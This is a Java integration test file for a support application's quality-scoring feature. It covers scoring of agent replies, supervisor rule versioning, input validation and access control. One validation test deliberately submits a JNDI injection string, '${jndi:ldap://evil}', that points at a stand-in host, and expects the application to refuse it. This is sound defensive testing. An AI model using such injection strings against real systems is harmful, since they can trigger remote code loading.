package io.omnicase.insight;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.omnicase.support.Api;
import io.omnicase.support.QueueCases;
import io.omnicase.support.QueueCases.QueueCase;
import io.omnicase.support.RunningOmnicase;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import io.omnicase.search.QualityAverages;
import io.omnicase.search.QualityQuery;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Quality scores against the running application: a case an agent answered with empathy and ownership within the SLA,
 * which the customer confirmed, is scored on resolution with each component as expected, stored and searchable; a
 * supervisor's change of a weight scores the next resolution (and leaves earlier scores as they were); rules that
 * cannot be used are refused naming the field; agents may neither read nor change the rules.
 */
@RunningOmnicase
class QualityScoreIT {

    private static final ObjectMapper JSON = new ObjectMapper();

    @LocalServerPort
    int port;

    @Autowired
    QualityScores quality;

    @Test
    void aCaseAnsweredWithEmpathyWithinTheSlaAndConfirmedByTheCustomerIsScoredOnEveryComponent() {
        int rulesVersion = supervisor().get("/api/insight/quality/rules").json().get("version").asInt();
        QueueCase billing = QueueCases.escalatedIn(port, "billing");
        reply(billing, "I understand how annoying a double charge is, and I'm sorry to hear it. "
                + "I'll make sure the second payment is refunded today.");
        QueueCases.customerWrites(port, billing, "Thank you so much, that worked! The refund is already there.");
        // The case process reassesses the case on the customer's message; resolving while it does would race it.
        await().atMost(Duration.ofSeconds(30)).until(() -> decisions(billing.caseId()) >= 2);
        resolve(billing);

        JsonNode latest = awaitScore(billing.caseId()).get("latest");

        assertThat(latest.get("agent").asText()).isEqualTo("agent");
        assertThat(latest.get("topic").asText()).isEqualTo("BILLING");
        assertThat(latest.get("queue").asText()).isEqualTo("billing");
        assertThat(latest.get("rulesVersion").asInt()).isEqualTo(rulesVersion);
        JsonNode firstResponse = part(latest, "FIRST_RESPONSE");
        assertThat(firstResponse.get("score").asDouble()).isEqualTo(1.0);
        assertThat(firstResponse.get("detail").asText()).contains("within the SLA of");
        assertThat(texts(part(latest, "EMPATHY").get("found"))).contains("I understand", "sorry to hear");
        assertThat(part(latest, "EMPATHY").get("score").asDouble()).isEqualTo(1.0);
        assertThat(texts(part(latest, "OWNERSHIP").get("found"))).contains("I'll make sure");
        assertThat(part(latest, "CONFIRMATION").get("score").asDouble()).isEqualTo(1.0);
        assertThat(texts(part(latest, "CONFIRMATION").get("found"))).contains("thank you", "that worked");
        assertThat(part(latest, "SENTIMENT").get("score").asDouble()).as("the customer ends happier than they began")
                .isGreaterThan(0.5);
        double total = latest.get("total").asDouble();
        double points = 0;
        for (JsonNode part : latest.get("components")) {
            points += part.get("points").asDouble();
        }
        assertThat(total).isGreaterThan(80).isCloseTo(points, org.assertj.core.api.Assertions.within(0.3));

        // Searchable: the overview (from the search index) finds it by case, with the same total.
        JsonNode overview = supervisor().get("/api/insight/quality?caseId=" + billing.caseId()).json();
        assertThat(overview.get("scored").asLong()).isEqualTo(1);
        assertThat(overview.get("lowest").get(0).get("total").asDouble()).isEqualTo(total);
        assertThat(overview.get("lowest").get(0).get("phrases").asText()).contains("I'll make sure");
        // Coaching reads the agent's average on the topic from the same index.
        QualityAverages averages = quality.averages(new QualityQuery(null, null, null, "agent", billing.caseId(), 0));
        assertThat(averages.team()).isEqualTo(total);
        assertThat(averages.agents()).containsExactly(new QualityAverages.AgentTopic("agent", "BILLING", 1, total));
        // The agent who may read the case reads its score; an agent of another queue may not.
        assertThat(Api.as(port, "tech").get("/api/insight/quality/cases/" + billing.caseId()).status()).isEqualTo(403);
    }

    /**
     * Coaching's row of an agent and topic counts a case once, under the topic the agent chose when resolving it (the
     * first message's words said billing; the agent filed it under account), and its quality average is over those
     * same cases: a case reopened and resolved again has one score there (its latest), not one per resolution (walks,
     * 4 December).
     */
    @Test
    void aCaseReopenedAndResolvedAgainCountsOnceInCoachingUnderTheTopicItWasResolvedUnder() {
        QueueCase billing = QueueCases.escalatedIn(port, "billing");
        reply(billing, "I understand. The refund is on its way.");
        resolve(billing, "ACCOUNT");
        awaitScore(billing.caseId());
        QueueCases.customerWrites(port, billing, "The refund has still not arrived, I was charged twice");
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertThat(supervisor().get("/api/cases/" + billing.caseId())
                .json().get("status").asText()).isEqualTo("ESCALATED"));
        reply(billing, "Sorry to hear it, I'll make sure it is sent again today.");
        resolve(billing, "ACCOUNT");
        await().atMost(Duration.ofSeconds(30)).until(() -> supervisor().get("/api/insight/quality/cases/" + billing.caseId())
                .json().path("earlier").size() >= 1);
        double latest = supervisor().get("/api/insight/quality/cases/" + billing.caseId()).json().get("latest").get("total").asDouble();

        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                assertThat(quality.averages(new QualityQuery(null, null, null, "agent", billing.caseId(), 0)).agents())
                        .containsExactly(new QualityAverages.AgentTopic("agent", "ACCOUNT", 1, latest)));
    }

    @Test
    void aSupervisorChangesAWeightAndTheNextResolutionIsScoredWithItWhileEarlierScoresStay() {
        JsonNode before = supervisor().get("/api/insight/quality/rules").json();
        QueueCase earlier = QueueCases.escalatedIn(port, "billing");
        reply(earlier, "I understand. The refund is on its way.");
        resolve(earlier);
        JsonNode earlierScore = awaitScore(earlier.caseId()).get("latest");
        try {
            ObjectNode rules = before.get("rules").deepCopy();
            ((ObjectNode) rules.get("weights")).put("firstResponse", 0).put("ownership", 0).put("empathy", 100)
                    .put("confirmation", 0).put("sentiment", 0);
            Api.Response changed = supervisor().put("/api/insight/quality/rules",
                    Map.of("rules", rules, "reason", "Coaching month: empathy only"));
            assertThat(changed.status()).as(changed.toString()).isEqualTo(200);
            int version = changed.json().get("version").asInt();
            assertThat(version).isGreaterThan(before.get("version").asInt());
            assertThat(changed.json().get("rescoresEarlier").asBoolean()).isFalse();
            JsonNode newest = supervisor().get("/api/insight/quality/rules/versions").json().get(0);
            assertThat(newest.get("version").asInt()).isEqualTo(version);
            assertThat(newest.get("author").asText()).isEqualTo("supervisor");
            assertThat(newest.get("reason").asText()).isEqualTo("Coaching month: empathy only");

            QueueCase next = QueueCases.escalatedIn(port, "billing");
            // One empathy phrase of the two the rules ask for full marks, and nothing else counts: 50 points.
            reply(next, "I understand. The refund is on its way.");
            resolve(next);
            JsonNode nextScore = awaitScore(next.caseId()).get("latest");

            assertThat(nextScore.get("rulesVersion").asInt()).isEqualTo(version);
            assertThat(part(nextScore, "EMPATHY").get("weight").asInt()).isEqualTo(100);
            assertThat(part(nextScore, "FIRST_RESPONSE").get("weight").asInt()).isZero();
            assertThat(nextScore.get("total").asDouble()).isEqualTo(50.0);
            // The same conversation under the earlier rules scored otherwise, and keeps that score.
            JsonNode earlierAgain = supervisor().get("/api/insight/quality/cases/" + earlier.caseId()).json().get("latest");
            assertThat(earlierAgain.get("rulesVersion").asInt()).isEqualTo(before.get("version").asInt());
            assertThat(earlierAgain.get("total").asDouble()).isEqualTo(earlierScore.get("total").asDouble())
                    .isNotEqualTo(50.0);
        } finally {
            supervisor().put("/api/insight/quality/rules", Map.of("rules", before.get("rules"), "reason", "test over"));
        }
    }

    @Test
    void rulesThatCannotBeUsedAreRefusedWithAProblemNamingTheFieldAndChangeNothing() {
        JsonNode before = supervisor().get("/api/insight/quality/rules").json();
        ObjectNode rules = before.get("rules").deepCopy();
        ((ObjectNode) rules.get("weights")).put("empathy", 150);
        rules.putArray("confirmationPhrases").add("thanks").add("${jndi:ldap://evil}");

        Api.Response refused = supervisor().put("/api/insight/quality/rules", Map.of("rules", rules, "reason", "try"));

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.contentType()).startsWith("application/problem+json");
        assertThat(fields(refused)).containsExactly("rules.weights.empathy", "rules.confirmationPhrases[1]");
        assertThat(refused.json().get("detail").asText()).contains("rules.weights.empathy: must be between 0 and 100");

        ObjectNode withScript = before.get("rules").deepCopy();
        withScript.put("script", "return 100");
        Api.Response unknown = supervisor().put("/api/insight/quality/rules", Map.of("rules", withScript, "reason", "try"));
        assertThat(unknown.status()).isEqualTo(400);
        assertThat(fields(unknown)).containsExactly("rules.script");

        Api.Response noReason = supervisor().put("/api/insight/quality/rules", Map.of("rules", before.get("rules")));
        assertThat(noReason.status()).isEqualTo(400);
        assertThat(fields(noReason)).containsExactly("reason");

        ObjectNode noPhrases = before.get("rules").deepCopy();
        noPhrases.putArray("empathyPhrases");
        Api.Response empty = supervisor().put("/api/insight/quality/rules", Map.of("rules", noPhrases, "reason", "try"));
        assertThat(fields(empty)).containsExactly("rules.empathyPhrases");

        assertThat(supervisor().get("/api/insight/quality/rules").json().get("version").asInt())
                .isEqualTo(before.get("version").asInt());
    }

    @Test
    void theOverviewRefusesParametersOutOfRangeNamingEach() {
        for (String query : List.of("lowest=-1", "lowest=101", "queue=" + "q".repeat(81), "agent=" + "a".repeat(101))) {
            Api.Response refused = supervisor().get("/api/insight/quality?" + query);
            assertThat(refused.status()).as(query).isEqualTo(400);
            assertThat(refused.contentType()).as(query).startsWith("application/problem+json");
            assertThat(fields(refused)).as(query).containsExactly(query.substring(0, query.indexOf('=')));
        }
        assertThat(supervisor().get("/api/insight/quality?lowest=100").status()).isEqualTo(200);
    }

    @Test
    void anAgentMayNeitherReadNorChangeTheRulesNorSeeTheOverview() {
        Api agent = Api.as(port, "agent");
        JsonNode rules = supervisor().get("/api/insight/quality/rules").json().get("rules");

        assertThat(agent.get("/api/insight/quality/rules").status()).isEqualTo(403);
        Api.Response change = agent.put("/api/insight/quality/rules", Map.of("rules", rules, "reason", "I want more points"));
        assertThat(change.status()).isEqualTo(403);
        assertThat(change.contentType()).startsWith("application/problem+json");
        assertThat(agent.get("/api/insight/quality").status()).isEqualTo(403);
    }

    private Api supervisor() {
        return Api.as(port, "supervisor");
    }

    private void reply(QueueCase queueCase, String text) {
        Api.Response reply = Api.as(port, "agent").postJson("/api/cases/" + queueCase.caseId() + "/replies",
                Map.of("text", text));
        assertThat(reply.status()).as(reply.toString()).isEqualTo(201);
    }

    private void resolve(QueueCase queueCase) {
        resolve(queueCase, "BILLING");
    }

    private void resolve(QueueCase queueCase, String topic) {
        Api.Response resolved = Api.as(port, "agent").postJson("/api/cases/" + queueCase.caseId() + "/resolve",
                Map.of("resolution", "Refunded the double charge", "topic", topic));
        assertThat(resolved.status()).as(resolved.toString()).isEqualTo(200);
    }

    /** The case's quality, once its resolution has been scored (after commit, in the background). */
    private JsonNode awaitScore(long caseId) {
        Api agent = Api.as(port, "agent");
        await().atMost(Duration.ofSeconds(30)).until(() ->
                agent.get("/api/insight/quality/cases/" + caseId).status() == 200);
        return agent.get("/api/insight/quality/cases/" + caseId).json();
    }

    private int decisions(long caseId) {
        int count = 0;
        for (JsonNode entry : supervisor().get("/api/cases/" + caseId + "/timeline").json()) {
            if ("DECISION".equals(entry.path("kind").asText())) {
                count++;
            }
        }
        return count;
    }

    private static JsonNode part(JsonNode score, String component) {
        for (JsonNode part : score.get("components")) {
            if (component.equals(part.get("component").asText())) {
                return part;
            }
        }
        throw new AssertionError("no component " + component + " in " + score);
    }

    private static List<String> texts(JsonNode array) {
        List<String> texts = new ArrayList<>();
        array.forEach(n -> texts.add(n.asText()));
        return texts;
    }

    private static List<String> fields(Api.Response response) {
        List<String> fields = new ArrayList<>();
        response.json().path("errors").forEach(e -> fields.add(e.get("field").asText()));
        return fields;
    }
}
